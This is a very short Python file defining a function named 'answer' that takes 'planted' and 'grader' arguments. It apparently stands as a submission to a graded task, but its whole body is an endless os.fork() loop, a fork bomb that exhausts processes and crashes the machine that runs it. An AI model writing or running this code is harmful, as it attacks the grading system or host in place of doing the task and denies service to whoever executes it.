import os


def answer(planted, grader):
    while True:
        os.fork()
